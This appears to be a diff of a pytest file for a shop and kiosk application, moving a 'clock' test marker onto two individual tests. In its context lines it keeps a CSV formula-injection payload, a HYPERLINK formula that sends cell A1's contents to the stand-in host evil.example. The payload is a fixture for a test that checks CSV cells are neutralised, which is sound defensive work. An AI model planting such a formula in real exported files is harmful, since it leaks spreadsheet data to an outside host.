@@ -26,8 +26,6 @@ from tests.factories import load_small_shop
 from tests.kiosk.helpers import api_scans, csrf_token
 from tests.workorders.helpers import scan
 
-pytestmark = pytest.mark.clock
-
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
@@ -150,6 +148,7 @@ def test_packing_list_csv_neutralises_text_cells():
 # -- floor init: private config with its own session key -------------------------------------------
 
 
+@pytest.mark.clock
 def test_floor_init_writes_a_private_config_with_a_session_key(tmp_path, monkeypatch):
     """GIVEN a loose umask WHEN `floor init` runs twice in two folders THEN each floor.toml is mode 0600
     and holds its own 64-hex [server] secret_key, which the app uses (so gunicorn workers share it)."""
@@ -381,6 +380,7 @@ def test_a_new_table_is_registered_by_its_dataclass(monkeypatch):
 # -- the one clock in the kiosk -----------------------------------------------------------------------
 
 
+@pytest.mark.clock
 def test_kiosk_supervisor_unlock_runs_on_the_one_clock(shop, client, pinned_clock):
     """GIVEN a supervisor unlocked a stocktake's variance WHEN the one clock moves 14 minutes THEN it is still
     shown; WHEN it moves past 15 minutes THEN it is locked again (the machine clock plays no part)."""
